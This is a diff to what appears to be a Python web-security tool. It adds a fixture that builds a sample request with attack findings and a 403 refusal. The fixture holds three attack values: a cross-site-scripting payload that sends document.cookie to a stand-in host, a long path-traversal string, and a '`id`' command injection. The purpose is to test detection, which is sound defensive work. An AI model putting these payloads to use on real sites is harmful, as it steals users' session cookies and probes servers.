@@ -7,6 +7,8 @@ from random import Random
 from msgspec import Struct
 from msgspec.structs import replace
 
+from nightlatch.checks.attacks.evidence import worded
+from nightlatch.checks.attacks.value import Clue, Place, Value
 from nightlatch.exchange.credential import CredentialKind, CredentialState
 from nightlatch.exchange.disclosure import DataClass, DataItem, Side
 from nightlatch.exchange.exchange import Ending
@@ -159,6 +161,30 @@ def make_records(honest: int, attack: int) -> tuple[Record, ...]:
 def one_more(random: Random, now: float) -> Record:
     """A request of the attack that happens right now, for the live feed."""
     return _guess(random, now, f"203.0.113.{random.randrange(1, 250)}", attempts=12)
+
+
+SCRIPT = "<script>fetch('//198.51.100.4/'+document.cookie)</script>"
+UNBROKEN = "../" * 2_000
+
+
+def injected() -> Record:
+    """A request that carries attacks, told at the length that evidence may have."""
+    told = [
+        ("cross-site-scripting", "adds a script that reads the page's cookies", SCRIPT),
+        ("path-traversal", "climbs out of its directory", UNBROKEN),
+        ("command-injection", "runs `id` where it reaches a shell", "`id`"),
+    ]
+    findings = tuple(
+        Finding(check, Level.HIGH, worded(Clue(92, why, text), Value(Place.JSON, "$.text", text)))
+        for check, why, text in told
+    )
+    refusal = Decision(
+        Action.REFUSE, Mode.OBSERVE, f"attack:{told[0][0]}", findings[0].evidence, 403
+    )
+    record = _visit(Random(9), DOORS[6], NOW - 1)
+    return replace(
+        record, level=Level.HIGH, reason=findings[0].evidence, decision=refusal, findings=findings
+    )
 
 
 def _honest(random: Random, number: int) -> Iterator[Record]:
